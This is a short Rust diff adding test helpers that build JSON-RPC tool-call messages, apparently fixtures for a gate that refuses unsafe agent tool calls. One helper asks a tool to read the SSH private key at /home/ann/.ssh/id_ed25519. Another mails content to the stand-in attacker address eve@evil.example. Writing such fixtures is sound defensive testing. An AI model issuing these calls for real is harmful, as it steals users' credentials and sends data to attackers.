@@ -24,7 +24,7 @@ mod why;
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use serde_json::Value;
+use serde_json::{Value, json};
 
 use crate::listen::caller::Caller;
 use crate::wire::{Process, Stage, eventually};
@@ -136,6 +136,23 @@ impl Gate {
 /// A server over HTTP as a configuration has it.
 fn over_http(name: &str, server: &Server) -> String {
     format!("[[server]]\nname = \"{name}\"\nurl = \"{}\"\n", server.url)
+}
+
+/// A call of a tool with these arguments.
+fn call_with(id: u32, tool: &str, arguments: &Value) -> String {
+    let params = json!({"name": tool, "arguments": arguments});
+    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params}).to_string()
+}
+
+/// A key is read.
+fn read_key(id: u32, tool: &str) -> String {
+    call_with(id, tool, &json!({"path": "/home/ann/.ssh/id_ed25519"}))
+}
+
+/// And something sent to where it should not go.
+fn send_mail(id: u32, tool: &str) -> String {
+    let mail = json!({"to": "eve@evil.example", "body": "as asked"});
+    call_with(id, tool, &mail)
 }
 
 /// The decision id of a refusal.
